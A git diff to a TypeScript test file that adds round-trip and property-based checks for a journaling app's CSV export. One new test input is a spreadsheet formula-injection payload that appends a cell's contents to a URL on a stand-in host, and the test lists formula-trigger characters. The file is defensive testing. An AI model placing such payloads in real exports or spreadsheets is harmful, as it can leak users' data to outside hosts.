@@ -1,6 +1,8 @@
 import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
 import { csvFile } from '../export/csv-file.ts';
 import { exported } from '../export/exported.rows.ts';
+import { jsonFile } from '../export/json-file.ts';
 import { brought } from './samples.rows.ts';
 
 const entriesOf = async (csv: string) =>
@@ -16,6 +18,8 @@ describe('a CSV of our own', () => {
     "''=1",
     '- Kaffee\n- Sonne',
     '＝1 🌻 שלום',
+    'Schön;=HYPERLINK("http://example.org"&A1)',
+    'eins,\t"=2"\n\n- drei',
   ])('gives back %j as it was, with its day and its instant', async (content) => {
     const { text } = csvFile(exported({ '2026-11-21': 'x', '2026-11-20': content }), '2026-11-22');
     expect(await brought(text)).toMatchObject({
@@ -23,6 +27,23 @@ describe('a CSV of our own', () => {
       entries: [{ day: '2026-11-20', content, createdAt: '2026-11-20T18:30:00.000Z' }, { day: '2026-11-21' }],
     });
   });
+});
+
+it('a CSV of our own gives back every text as the JSON file does', async () => {
+  const risky = fc.constantFrom("'", "' ", '"', ',', ';', '\t', '\r', '\n', ' ', '=', '-', '@', '＋', 'a');
+  // A stored text has no NUL.
+  const part = fc.oneof(
+    risky,
+    fc.string({ unit: 'binary' }).map((any) => any.replaceAll('\0', '')),
+  );
+  const text = fc.array(part, { minLength: 1 }).map((parts) => `${parts.join('')}x`);
+  await fc.assert(
+    fc.asyncProperty(text, text, async (one, other) => {
+      const account = exported({ '2026-11-21': one, '2026-11-20': other });
+      const [csv, json] = [csvFile, jsonFile].map((make) => make(account, '2026-11-22').text);
+      expect((await brought(csv ?? '')).entries).toEqual((await brought(json ?? '')).entries);
+    }),
+  );
 });
 
 describe('a CSV of Presently', () => {
